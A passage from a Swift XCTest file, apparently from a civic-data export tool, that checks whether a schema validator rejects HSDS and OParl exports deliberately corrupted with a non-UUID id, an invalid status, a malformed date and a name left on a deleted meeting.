                       "a name only on a deleted meeting is a deleted person, so consumers drop it")
        let publicMeeting = try XCTUnwrap(((try jsonFile(published, "meetings.json") as? [String: Any])?["data"] as? [[String: Any]])?
            .first { ($0["id"] as? String)?.hasSuffix(county.meeting) == true })
        XCTAssertEqual((publicMeeting["participant"] as? [String])?.count, 2)
        XCTAssertTrue((publicMeeting["id"] as? String)?.hasPrefix(OParlExportOptions.defaultBaseURL + "/meeting/") == true)
    }

    /// The validator is not vacuous: it fails exports that break the schemas.
    func testValidatorRejectsExportsThatBreakTheSchemas() throws {
        _ = try makeCounty()
        let hsds = directory("hsds-broken")
        ok("export", "hsds", "--out", hsds.path)
        var services = try XCTUnwrap(try jsonFile(hsds, "services.json") as? [[String: Any]])
        services[0]["id"] = "nordstadt"
        services[0]["status"] = "planned"
        try JSONSerialization.data(withJSONObject: services).write(to: hsds.appendingPathComponent("services.json"))
        let hsdsResult = try validate("hsds", hsds)
        XCTAssertEqual(hsdsResult.code, 1, hsdsResult.output)
        XCTAssertTrue(hsdsResult.output.contains("'nordstadt' is not a 'uuid'") && hsdsResult.output.contains("'planned' is not one of"),
                      hsdsResult.output)

        let oparl = directory("oparl-broken")
        ok("export", "oparl", "--out", oparl.path)
        var page = try XCTUnwrap(try jsonFile(oparl, "meetings.json") as? [String: Any])
        var meetings = try XCTUnwrap(page["data"] as? [[String: Any]])
        meetings[0]["start"] = "14.03.2026"
        meetings[1]["name"] = "noch da"
        page["data"] = meetings
        try JSONSerialization.data(withJSONObject: page).write(to: oparl.appendingPathComponent("meetings.json"))
        let oparlResult = try validate("oparl", oparl)
        XCTAssertEqual(oparlResult.code, 1, oparlResult.output)
        XCTAssertTrue(oparlResult.output.contains("is not a 'date-time'") && oparlResult.output.contains("deleted object still carries"),
                      oparlResult.output)
    }
}
